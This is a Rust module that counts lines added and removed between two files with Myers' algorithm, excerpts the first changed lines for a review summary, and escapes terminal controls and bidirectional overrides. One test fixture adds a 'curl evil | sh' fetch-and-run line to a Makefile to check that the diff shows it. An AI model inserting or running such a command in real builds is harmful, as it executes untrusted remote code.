//! A line diff's size (+added/-removed) and its first changed lines, for the review summary.
//! Myers' greedy algorithm finds the edit distance in O((N+M)·D) time and O(N+M) memory; its work
//! is bounded, and past the bound the counts come from the lines' multisets (a lower bound of the
//! true counts, never more).

use std::collections::HashMap;

/// The largest (N+M)·D Myers may spend, about 50 ms.
const MAX_WORK: usize = 50_000_000;
/// Lines of each side the excerpt's alignment looks at.
const WINDOW: usize = 64;

pub fn lines(b: &[u8]) -> Vec<&[u8]> {
    if b.is_empty() {
        return vec![];
    }
    let b = b.strip_suffix(b"\n").unwrap_or(b);
    b.split(|&c| c == b'\n').collect()
}

pub fn is_text(b: &[u8]) -> bool {
    !b.contains(&0)
}

/// Lines added and removed from `a` to `b`, and up to `max` first changed lines (`+ ` or `- `).
pub fn diff(a: &[u8], b: &[u8], max: usize) -> (u64, u64, Vec<String>) {
    let (a, b) = (lines(a), lines(b));
    let pre = a.iter().zip(&b).take_while(|(x, y)| x == y).count();
    let suf = a[pre..].iter().rev().zip(b[pre..].iter().rev()).take_while(|(x, y)| x == y).count();
    let (ma, mb) = (&a[pre..a.len() - suf], &b[pre..b.len() - suf]);
    let (added, removed) = match distance(ma, mb) {
        Some(d) => {
            let common = (ma.len() + mb.len() - d) / 2;
            (mb.len() - common, ma.len() - common)
        }
        None => multiset(ma, mb),
    };
    (added as u64, removed as u64, first_changes(ma, mb, max))
}

/// Myers' D, or None past [`MAX_WORK`].
fn distance(a: &[&[u8]], b: &[&[u8]]) -> Option<usize> {
    let max = a.len() + b.len();
    if max == 0 {
        return Some(0);
    }
    let mut f = super::myers::Frontier::new(a.len(), b.len());
    (0..=(MAX_WORK / max).min(max) as isize).find(|&d| f.step(a, b, d)).map(|d| d as usize)
}

fn multiset(a: &[&[u8]], b: &[&[u8]]) -> (usize, usize) {
    let mut count: HashMap<&[u8], isize> = HashMap::new();
    for l in a {
        *count.entry(l).or_default() += 1;
    }
    for l in b {
        *count.entry(l).or_default() -= 1;
    }
    let removed = count.values().filter(|c| **c > 0).sum::<isize>() as usize;
    let added = count.values().filter(|c| **c < 0).map(|c| -c).sum::<isize>() as usize;
    (added, removed)
}

/// The first changed lines, from an exact alignment of the first [`WINDOW`] lines of each side.
fn first_changes(a: &[&[u8]], b: &[&[u8]], max: usize) -> Vec<String> {
    let (a, b) = (&a[..a.len().min(WINDOW)], &b[..b.len().min(WINDOW)]);
    // lcs[i][j]: the longest common subsequence of a[i..] and b[j..].
    let mut lcs = vec![vec![0u16; b.len() + 1]; a.len() + 1];
    for i in (0..a.len()).rev() {
        for j in (0..b.len()).rev() {
            lcs[i][j] = if a[i] == b[j] { lcs[i + 1][j + 1] + 1 } else { lcs[i + 1][j].max(lcs[i][j + 1]) };
        }
    }
    let (mut i, mut j, mut out) = (0, 0, vec![]);
    while out.len() < max && (i < a.len() || j < b.len()) {
        if i < a.len() && j < b.len() && a[i] == b[j] {
            i += 1;
            j += 1;
        } else if i < a.len() && (j == b.len() || lcs[i + 1][j] >= lcs[i][j + 1]) {
            out.push(format!("- {}", shown(a[i])));
            i += 1;
        } else {
            out.push(format!("+ {}", shown(b[j])));
            j += 1;
        }
    }
    out
}

/// A line or name as it may be printed on a terminal: control characters and bidirectional
/// overrides escaped (a file could otherwise rewrite the user's screen, or read differently than it
/// runs), cut at 160 characters.
pub fn shown(b: &[u8]) -> String {
    let s = String::from_utf8_lossy(b);
    let mut out = String::new();
    for (n, c) in s.chars().enumerate() {
        if n == 160 {
            out.push('…');
            break;
        }
        if c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}') {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_and_first_lines() {
        let a = b"all:\n\tcc main.c\n\ttest\n";
        let b = b"all:\n\tcurl evil | sh\n\tcc main.c\n\ttest\n";
        let (add, rem, ex) = diff(a, b, 3);
        assert_eq!((add, rem), (1, 0));
        assert_eq!(ex, vec!["+ \\tcurl evil | sh".to_string()]);
        let (add, rem, ex) = diff(b"x\ny\nz\n", b"x\nY\nz\n", 5);
        assert_eq!((add, rem), (1, 1));
        assert_eq!(ex, vec!["- y".to_string(), "+ Y".to_string()]);
        assert_eq!(diff(b"", b"a\nb\n", 5).0, 2);
        assert_eq!(diff(b"a\nb", b"", 5).1, 2);
        assert_eq!(diff(b"same\n", b"same\n", 5), (0, 0, vec![]));
    }

    #[test]
    fn a_large_rewrite_falls_back_to_counts_that_are_never_more_than_the_truth() {
        let a: String = (0..20_000).map(|i| format!("a{i}\n")).collect();
        let b: String = (0..20_000).map(|i| format!("b{i}\n")).collect();
        let (add, rem, _) = diff(a.as_bytes(), b.as_bytes(), 3);
        assert_eq!((add, rem), (20_000, 20_000));
    }

    #[test]
    fn terminal_controls_are_escaped() {
        assert_eq!(shown(b"a\x1b[2Jb"), "a\\u{1b}[2Jb");
        assert_eq!(shown("x\u{202e}y".as_bytes()), "x\\u{202e}y");
    }
}
